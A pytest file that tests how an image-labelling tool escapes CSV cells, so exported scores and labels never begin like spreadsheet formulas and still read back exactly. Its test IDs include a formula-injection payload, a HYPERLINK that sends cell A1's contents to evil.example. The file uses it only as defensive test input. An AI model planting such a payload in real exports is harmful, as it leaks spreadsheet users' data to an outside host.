"""CSV cells a spreadsheet never runs as a formula, read back exactly."""

from __future__ import annotations

import csv

import numpy as np
import pytest

from trainer.export import export_classifier, read_labels, write_scores
from trainer.index.local import LocalIndex
from trainer.session import Session
from trainer.spreadsheet import read_cell, safe_cell

IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1-555-0100.jpg",
    "-cat.jpg",
    "@SUM(A1:A9)",
    "\tcat.jpg",
    "\rcat.jpg",
    "'quoted.jpg",
    "''=twice",
    "cats/=in-a-folder.jpg",
    "plain.jpg",
    "",
]


@pytest.mark.parametrize("text", IDS)
def test_a_cell_never_starts_like_a_formula_and_reads_back_exactly(text):
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read_cell(cell) == text


def test_only_cells_that_start_like_a_formula_change():
    assert safe_cell("plain.jpg") == "plain.jpg" and safe_cell("cats/=x.jpg") == "cats/=x.jpg"
    assert safe_cell("=1+1") == "'=1+1"


def test_a_lone_leading_quote_from_before_is_kept():
    assert read_cell("'quoted.jpg") == "'quoted.jpg"  # written before safe_cell: nothing to take off


def test_a_classifys_scores_csv_quotes_formula_ids(tmp_path):
    path = write_scores(IDS[:3], np.array([0.9, 0.5, 0.1]), tmp_path / "scores.csv")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert [r[0] for r in rows[1:]] == [safe_cell(i) for i in IDS[:3]]
    assert all(r[0].startswith("'") for r in rows[1:])


def test_an_exports_labels_csv_quotes_formula_ids_and_reads_them_back_exactly(tmp_path):
    ids = [i for i in IDS if i]  # an index holds no empty id
    rng = np.random.default_rng(0)
    vectors = rng.standard_normal((len(ids), 8)).astype(np.float32)
    index = LocalIndex.from_vectors(ids, vectors / np.linalg.norm(vectors, axis=1, keepdims=True))
    prompt = vectors[0] / np.linalg.norm(vectors[0])
    session = Session(index, prompt, batch_size=len(ids), seed=0, base_model="test/clip")
    session.label({h.id: (-1.0) ** n for n, h in enumerate(session.batch())})
    session.train_and_requery()
    folder = export_classifier(session, tmp_path / "export")
    with (folder / "labels.csv").open(encoding="utf-8", newline="") as f:
        cells = [row[0] for row in list(csv.reader(f))[1:]]
    assert sorted(cells) == sorted(safe_cell(i) for i in ids)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    for path in (folder, folder / "labels.csv"):
        assert {r.id: r.score for r in read_labels(path)} == session.labels
